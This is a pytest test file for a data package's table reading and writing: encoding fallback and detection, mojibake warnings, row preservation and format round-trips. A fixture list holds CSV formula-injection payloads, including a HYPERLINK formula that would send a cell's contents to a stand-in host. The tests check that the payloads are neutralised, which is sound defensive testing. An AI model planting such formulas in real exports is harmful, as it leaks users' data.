"""read_table / write_table: every row survives, any common encoding, clear errors."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from carelens.errors import TableError
from carelens.tables import ensure_unique, read_table, read_warnings, require_columns, write_table


def test_reads_cp1252_export_with_pound_sign(tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes("id,comment\n1,Parking cost £5 – too much\n".encode("cp1252"))
    frame = read_table(path)
    assert frame.loc[0, "comment"] == "Parking cost £5 – too much"


def test_reads_utf8_bom_header(tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes("\ufeffFFT answer,score\nlovely staff 😀,1\n".encode("utf-8"))
    frame = read_table(path)
    assert list(frame.columns) == ["FFT answer", "score"]
    assert frame.loc[0, "FFT answer"] == "lovely staff 😀"


def test_keeps_interior_blank_rows_and_drops_only_trailing_blank_rows(tmp_path):
    path = tmp_path / "blank.csv"
    path.write_text("id,comment\n1,a\n,\n3,c\n,\n,\n")
    frame = read_table(path)
    assert len(frame) == 3
    assert frame["id"].isna().tolist() == [False, True, False]


def test_empty_file_is_a_clear_error(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_text("")
    with pytest.raises(TableError, match="empty"):
        read_table(path)


def test_missing_file_and_bad_suffix(tmp_path):
    with pytest.raises(TableError, match="not found"):
        read_table(tmp_path / "nope.csv")
    (tmp_path / "x.docx").write_text("x")
    with pytest.raises(TableError, match="unsupported file type"):
        read_table(tmp_path / "x.docx")


def test_corrupt_xlsx_is_a_clear_error(tmp_path):
    path = tmp_path / "broken.xlsx"
    path.write_bytes(b"not a zip file")
    with pytest.raises(TableError, match="could not read"):
        read_table(path)


def test_require_columns_lists_what_exists():
    frame = pd.DataFrame({"a": [1], "b": [2]})
    with pytest.raises(TableError, match=r"missing column 'FFT answer'.*'a', 'b'"):
        require_columns(frame, ["FFT answer"], file="in.csv")


def test_ensure_unique_reports_file_row_numbers():
    frame = pd.DataFrame({"id": ["x", "y", "x", None, None]})
    assert ensure_unique(frame, "id") == [4]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_round_trip_each_format(tmp_path, suffix):
    frame = pd.DataFrame({"id": ["1", "2"], "text": ["é ok", "long " * 4000]})
    path = write_table(frame, tmp_path / f"out{suffix}")
    back = read_table(path, dtype_str=True)
    assert back["text"].tolist() == frame["text"].tolist()


text_cells = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40
).filter(lambda s: s.strip() != "")


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(cells=st.lists(text_cells, min_size=1, max_size=20))
def test_csv_round_trip_keeps_every_row(tmp_path, cells):
    frame = pd.DataFrame({"comment": cells, "n": range(len(cells))})
    path = write_table(frame, tmp_path / "prop.csv")
    back = read_table(path, dtype_str=True)
    assert len(back) == len(cells)
    assert back["comment"].tolist() == cells


def test_text_mode_keeps_words_pandas_would_call_missing(tmp_path):
    path = tmp_path / "na.csv"
    path.write_text("comment\nNA\nNone\nnull\n\nok\n")
    assert read_table(path, dtype_str=True)["comment"].tolist()[:3] == ["NA", "None", "null"]


# ----------------------------------------------------------------- encodings: say what it took to read a file
def test_clean_utf8_reads_without_a_warning(tmp_path):
    path = tmp_path / "ok.csv"
    path.write_bytes("id,comment\n1,café 😀\n".encode("utf-8"))
    frame = read_table(path, dtype_str=True)
    assert read_warnings(frame) == [] and frame.attrs["encoding"] == "utf-8"


def test_a_cp1252_file_is_read_and_the_fallback_is_said(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("id,comment\n1,Parking cost £5 – too much\n2,très bien\n".encode("cp1252"))
    frame = read_table(path, dtype_str=True)
    assert frame["comment"].tolist() == ["Parking cost £5 – too much", "très bien"]
    assert read_warnings(frame, "excel.csv") == [
        "excel.csv: not UTF-8; read as Windows-1252 (cp1252, Excel's usual CSV encoding)"]


def test_a_utf8_file_with_a_few_cp1252_bytes_is_repaired_line_by_line_and_counted(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes("id,comment\n1,café très bien 😀\n".encode() + "2,caf\xe9 was £5\n".encode("cp1252")
                     + "3,ok\n".encode() + "4,don’t\n".encode("cp1252"))
    frame = read_table(path, dtype_str=True)
    assert frame["comment"].tolist() == ["café très bien 😀", "café was £5", "ok", "don’t"]  # not "cafÃ©"
    assert frame.attrs["encoding"] == "utf-8+cp1252"
    (warning,) = read_warnings(frame)
    assert warning.startswith("mostly UTF-8, but 2 line(s) held bytes that are not UTF-8 (file line 3, 5)")


LEGACY = {  # a few comments each: a detector needs some text (a single short line may fit several encodings)
    "shift_jis": ["看護師さんはとても親切でした", "待ち時間が長すぎました", "駐車場が狭いです"],
    "cp1251": ["Очень хороший персонал", "долго ждали", "спасибо врачу"],
    "cp949": ["간호사가 매우 친절했습니다", "대기 시간이 너무 길었습니다"],
    "gb18030": ["护士非常友好", "等待时间太长了"],
    "big5": ["護士非常友好", "等待時間太長了"],
    "cp1253": ["Πολύ καλό προσωπικό", "περιμέναμε πολύ"],
}


@pytest.mark.parametrize("encoding", sorted(LEGACY))
def test_a_non_latin_legacy_encoding_is_detected_rather_than_read_as_mojibake(tmp_path, encoding):
    texts = LEGACY[encoding]
    path = tmp_path / "legacy.csv"
    path.write_bytes(("id,comment\n" + "".join(f"{i},{t}\n" for i, t in enumerate(texts)) + "9,ok\n").encode(encoding))
    frame = read_table(path, dtype_str=True)
    assert frame["comment"].tolist() == texts + ["ok"]
    (warning,) = read_warnings(frame)
    assert warning.startswith("not UTF-8; the text looks like")


def test_rows_with_replacement_characters_or_mojibake_are_counted_and_kept(tmp_path):
    path = tmp_path / "damaged.csv"
    path.write_bytes("id,comment\n1,cafÃ© donâ€™t\n2,fine\n3,lost \ufffd here\n4,Â£5 parking\n".encode())
    frame = read_table(path, dtype_str=True)
    assert len(frame) == 4 and frame["comment"][0] == "cafÃ© donâ€™t"
    assert read_warnings(frame) == [
        "1 row(s) hold the replacement character \ufffd, so some text was lost before or while reading (first: row 4)",
        "2 row(s) hold likely mojibake such as 'cafÃ©' or 'donâ€™t' (UTF-8 text once read with the wrong encoding; "
        "first: row 2); kept as written",
    ]


def test_xlsx_cells_are_checked_for_damaged_text_too(tmp_path):
    path = write_table(pd.DataFrame({"comment": ["ok", "cafÃ©"]}), tmp_path / "x.xlsx")
    assert read_warnings(read_table(path, dtype_str=True))[0].startswith("1 row(s) hold likely mojibake")


# Text as people write it: words, with a Western non-ASCII letter or symbol here and there (£5, café, don’t).
western = st.sampled_from(list("£€éèàçüöäñ’‘“”–—°½"))
word = st.text(alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E, blacklist_characters=',;|"'),
               min_size=1, max_size=8)
plain_cells = st.lists(st.tuples(st.one_of(st.just(""), western), word), min_size=1, max_size=6).map(
    lambda parts: " ".join(w + x for x, w in parts))


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(cells=st.lists(st.tuples(plain_cells, st.sampled_from(["utf-8", "cp1252"])), min_size=1, max_size=15))
def test_any_mix_of_utf8_and_cp1252_lines_keeps_every_row_and_its_text(tmp_path, cells):
    lines, expected = [], []
    for cell, encoding in cells:
        raw = cell.encode(encoding, errors="replace")  # a character cp1252 lacks becomes "?", as Excel writes it
        lines.append(raw)
        try:  # cp1252 bytes that happen to be valid UTF-8 too ("Ã©" is also "é") cannot be told apart
            expected.append(raw.decode("utf-8"))
        except UnicodeDecodeError:
            expected.append(raw.decode("cp1252"))
    path = tmp_path / "mix.csv"
    path.write_bytes(b"comment\n" + b"\n".join(lines) + b"\n")
    frame = read_table(path, dtype_str=True)
    assert frame["comment"].tolist() == expected


FORMULAS = ["=1+1", '=HYPERLINK("http://example.org/?leak="&A2,"click")', "+44 7700 900123", "-5 stars", "@SUM(A1)"]


def test_a_csv_for_a_spreadsheet_runs_no_formula_and_a_data_csv_keeps_the_text(tmp_path):
    import io

    from carelens.tables import csv_bytes

    frame = pd.DataFrame({"comment": [*FORMULAS, "fine"], "score": [-1, 2, 3, 4, 5, 6]})
    shown = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str, encoding="utf-8-sig")
    assert shown["comment"].tolist() == [f"'{f}" for f in FORMULAS] + ["fine"]
    assert shown["score"].tolist()[0] == "-1"  # numbers are not text: left as they are
    people = read_table(write_table(frame, tmp_path / "people.csv", for_spreadsheet=True), dtype_str=True)
    assert people["comment"].tolist()[:5] == [f"'{f}" for f in FORMULAS]
    data = read_table(write_table(frame, tmp_path / "data.csv"), dtype_str=True)
    assert data["comment"].tolist() == [*FORMULAS, "fine"]


def test_an_xlsx_holds_formula_like_text_as_text_and_control_characters_do_not_fail_it(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"comment": [*FORMULAS, "bell\x07 and NUL\x00"]})
    path = write_table(frame, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(frame))]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells[:5]] == FORMULAS
    assert cells[5].value == "bell\ufffd and NUL\ufffd"
